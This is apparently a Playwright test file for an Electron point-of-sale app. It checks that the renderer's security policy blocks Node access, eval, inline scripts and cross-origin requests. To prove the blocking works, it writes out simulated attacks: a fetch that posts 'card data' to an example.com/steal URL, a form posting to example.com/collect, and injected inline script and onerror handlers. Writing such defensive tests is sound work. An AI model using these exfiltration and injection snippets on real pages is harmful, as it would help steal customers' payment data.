import type { Page } from '@playwright/test'
import { expect, test, type Registers } from './support/fixtures'
import { readyToSell } from './support/session'

/**
 * What the renderer's Content-Security-Policy and bridge allow, in real Chromium: no Node, no
 * eval, no inline script, nothing loaded from or sent to another origin, no forms or frames that
 * leave the page. (Top-level navigation and window.open are refused by Electron's main process;
 * e2e/security.electron.spec.ts checks those where the Electron binary exists.)
 */

declare global {
  interface Window {
    cspViolations?: string[]
    cspViolationSources?: { blocked: string; source: string; line: number }[]
  }
}

async function openRegister(page: Page, registers: Registers) {
  // Runs before any page script (injected by the browser, so the CSP does not apply to it).
  await page.addInitScript(() => {
    window.cspViolations = []
    window.cspViolationSources = []
    document.addEventListener('securitypolicyviolation', (event) => {
      window.cspViolations!.push(`${event.violatedDirective} ${event.blockedURI}`)
      window.cspViolationSources!.push({
        blocked: event.blockedURI,
        source: event.sourceFile,
        line: event.lineNumber,
      })
    })
  })
  const register = await registers.start()
  await readyToSell(page, register.url)
}

const violations = (page: Page) => page.evaluate(() => window.cspViolations ?? [])

test('the register page runs with no CSP violation of its own', async ({ page, registers }) => {
  await openRegister(page, registers)
  await page.locator('[data-testid="product-tile"][data-sku="COF-LAT"]').click()
  await page
    .getByRole('navigation', { name: 'Main' })
    .getByRole('button', { name: 'Orders' })
    .click()
  await page
    .getByRole('navigation', { name: 'Main' })
    .getByRole('button', { name: 'Register' })
    .click()
  // The stylesheet loaded under the strict style-src (no 'unsafe-inline'), and per-category
  // colours set through React style props (CSSOM, which CSP allows) reached the tiles.
  const rules = await page.evaluate(() =>
    [...document.styleSheets].reduce((count, sheet) => count + sheet.cssRules.length, 0),
  )
  expect(rules).toBeGreaterThan(10)
  const accent = await page
    .locator('[data-testid="product-tile"]')
    .first()
    .evaluate((tile) => getComputedStyle(tile).getPropertyValue('--accent'))
  expect(accent.trim()).not.toBe('')
  // zod runs jitless (src/renderer/src/zodConfig.ts), so not even its `new Function` probe fires:
  // any violation at all is a regression.
  const sources = await page.evaluate(() => window.cspViolationSources ?? [])
  const unexpected = sources.map(
    (violation) => `${violation.blocked} at ${violation.source}:${violation.line}`,
  )
  expect(unexpected).toEqual([])
})

test('the renderer cannot reach Node: only window.pos, and it refuses unknown channels', async ({
  page,
  registers,
}) => {
  await openRegister(page, registers)
  const globals = await page.evaluate(() => {
    const scope = globalThis as Record<string, unknown>
    return [
      'require',
      'process',
      'module',
      'exports',
      'Buffer',
      'global',
      '__dirname',
      'electron',
      'ipcRenderer',
    ].map((name) => `${name}:${typeof scope[name]}`)
  })
  expect(globals).toEqual([
    'require:undefined',
    'process:undefined',
    'module:undefined',
    'exports:undefined',
    'Buffer:undefined',
    'global:undefined',
    '__dirname:undefined',
    'electron:undefined',
    'ipcRenderer:undefined',
  ])
  expect(await page.evaluate(() => Object.keys(window.pos).sort())).toEqual(['invoke', 'on'])
  const refused = await page.evaluate(async () =>
    Promise.all(
      ['__proto__', 'constructor', 'fs:readFile', 'sale:delete'].map((channel) =>
        window.pos.invoke(channel as never, {} as never),
      ),
    ),
  )
  for (const result of refused)
    expect(result).toMatchObject({ ok: false, error: { code: 'UNKNOWN_CHANNEL' } })
})

test('no eval, no string timers, no injected inline script', async ({ page, registers }) => {
  await openRegister(page, registers)
  // Code compiled by page.evaluate runs with DevTools' permission to eval; a timer callback runs
  // later as ordinary page script, where the page's CSP applies.
  const outcome = await page.evaluate(
    () =>
      new Promise<{ evalResult: string; functionResult: string; ran: string[] }>((resolve) => {
        setTimeout(() => {
          const attempt = (run: () => unknown) => {
            try {
              run()
              return 'ran'
            } catch (error) {
              return (error as Error).name
            }
          }
          const scope = window as unknown as Record<string, unknown>
          const evalResult = attempt(() => (0, eval)('window.evalRan = true'))
          const functionResult = attempt(() => new Function('window.functionRan = true')())
          // A string timer is silently refused under CSP rather than thrown.
          ;(setTimeout as unknown as (code: string, ms: number) => void)(
            'window.timerRan = true',
            0,
          )
          const script = document.createElement('script')
          script.textContent = 'window.inlineRan = true'
          document.body.append(script)
          const handler = document.createElement('img')
          handler.setAttribute('onerror', 'window.handlerRan = true')
          handler.src = 'data:,not-an-image'
          document.body.append(handler)
          setTimeout(() => {
            const names = ['evalRan', 'functionRan', 'timerRan', 'inlineRan', 'handlerRan']
            resolve({
              evalResult,
              functionResult,
              ran: names.filter((name) => scope[name] === true),
            })
          }, 200)
        }, 0)
      }),
  )
  expect(outcome).toEqual({ evalResult: 'EvalError', functionResult: 'EvalError', ran: [] })
  expect((await violations(page)).some((line) => line.startsWith('script-src'))).toBe(true)
})

test('nothing is fetched from, sent to, framed from or posted to another origin', async ({
  page,
  registers,
}) => {
  await openRegister(page, registers)
  const startUrl = page.url()
  const outcome = await page.evaluate(async () => {
    const results: Record<string, string> = {}
    try {
      await fetch('https://example.com/steal', { method: 'POST', body: 'card data' })
      results.fetch = 'sent'
    } catch (error) {
      results.fetch = (error as Error).name
    }
    results.socket = await new Promise<string>((resolve) => {
      try {
        const socket = new WebSocket('ws://127.0.0.1:9/elsewhere')
        socket.onerror = () => resolve('error')
        socket.onopen = () => resolve('open')
      } catch (error) {
        resolve((error as Error).name)
      }
    })
    const frame = document.createElement('iframe')
    frame.src = 'https://example.com/'
    document.body.append(frame)
    const image = new Image()
    results.image = await new Promise<string>((resolve) => {
      image.onload = () => resolve('loaded')
      image.onerror = () => resolve('blocked')
      image.src = 'https://example.com/pixel.png'
    })
    const base = document.createElement('base')
    base.href = 'https://example.com/'
    document.head.append(base)
    results.baseApplied = String(document.baseURI.startsWith('https://example.com'))
    const form = document.createElement('form')
    form.action = 'https://example.com/collect'
    form.method = 'post'
    document.body.append(form)
    form.submit()
    await new Promise((resolve) => setTimeout(resolve, 300))
    return results
  })
  expect(outcome).toEqual({
    fetch: 'TypeError',
    socket: 'error',
    image: 'blocked',
    baseApplied: 'false',
  })
  expect(page.url()).toBe(startUrl)
  const seen = await violations(page)
  for (const directive of ['connect-src', 'frame-src', 'img-src', 'base-uri', 'form-action'])
    expect(
      seen.some((line) => line.startsWith(directive)),
      `${directive} in ${seen.join(', ')}`,
    ).toBe(true)
})

test('no screen carries a link or form that leads off the register', async ({
  page,
  registers,
}) => {
  await openRegister(page, registers)
  const nav = page.getByRole('navigation', { name: 'Main' })
  const offsite: string[] = []
  const screens = await nav.getByRole('button').allTextContents()
  expect(screens.length).toBeGreaterThanOrEqual(2)
  for (const screen of screens) {
    await nav.getByRole('button', { name: screen.trim(), exact: true }).click()
    offsite.push(
      ...(await page.evaluate(() =>
        [
          ...[...document.querySelectorAll('a[href]')].map((a) => (a as HTMLAnchorElement).href),
          ...[...document.querySelectorAll('form[action]')].map(
            (form) => (form as HTMLFormElement).action,
          ),
          ...[...document.querySelectorAll('[target="_blank"]')].map((element) =>
            element.outerHTML.slice(0, 80),
          ),
        ].filter((url) => !url.startsWith(location.origin)),
      )),
    )
  }
  expect(offsite).toEqual([])
})
